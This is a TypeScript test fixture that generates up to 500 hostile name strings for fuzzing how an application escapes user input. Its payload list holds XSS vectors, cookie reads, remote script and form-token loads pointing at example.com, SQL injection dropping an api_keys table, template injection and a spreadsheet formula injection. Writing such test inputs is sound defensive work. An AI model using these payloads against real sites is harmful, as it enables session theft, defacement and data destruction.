// 500 different texts that try to inject markup or code. Each one is a valid name.

export const HOSTILE_TEXTS_COUNT = 500

/** Maximum characters of a name. */
const LENGTH_MAX = 80

/** Prefixes that try to end the surrounding attribute or element. */
const BREAKERS: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '" ',
  "' ",
  '\\"',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '-->',
  '<!--',
  ']]>',
  '<![CDATA[',
  '&quot;>',
  '&#34;&#62;',
  '%22%3E',
  '\\u0022\\u003e',
  '＂＞',
  '\u200b\u2060',
  '\u05d0\u0627',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308',
  '{{constructor}}',
]

/** Payloads that try to run code, load a file, or insert markup. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//example.com/x></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1) id=announcer>x</a>',
  '<base href=//example.com/>',
  '<meta http-equiv=refresh content=0;//example.com>',
  '<link rel=stylesheet href=//example.com/x>',
  '<style>*{display:none}</style>',
  '<form action=//example.com><input name=form_token>',
  '<div hx-get=/account hx-trigger=load>',
  '<template><slot onslotchange=alert(1)></template>',
  '<math><mtext><img src onerror=alert(1)>',
  'x onfocus=alert(1) autofocus tabindex=1 data-copy=key',
  'javascript:alert(document.cookie)',
  'data:text/html,<script>alert(1)</script>',
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
  "'; drop table api_keys; --",
  '=HYPERLINK("//example.com")',
  'null undefined [object Object] NaN __proto__',
  '&lt;b&gt;&amp;amp;&#0;&nbsp',
]

export function hostileTexts(): string[] {
  const texts = PAYLOADS.flatMap((payload) => BREAKERS.map((breaker) => cut(`${breaker}${payload}`)))
  const different = [...new Set(texts)].slice(0, HOSTILE_TEXTS_COUNT - 2)
  return [...different, 'W'.repeat(LENGTH_MAX), '𝕏'.repeat(LENGTH_MAX)]
}

/** Returns the same number of harmless texts, as a reference. */
export function harmlessTexts(): string[] {
  return hostileTexts().map((_, at) => `Name ${at}`)
}

function cut(text: string): string {
  return [...text.normalize('NFC')].slice(0, LENGTH_MAX).join('').trim()
}
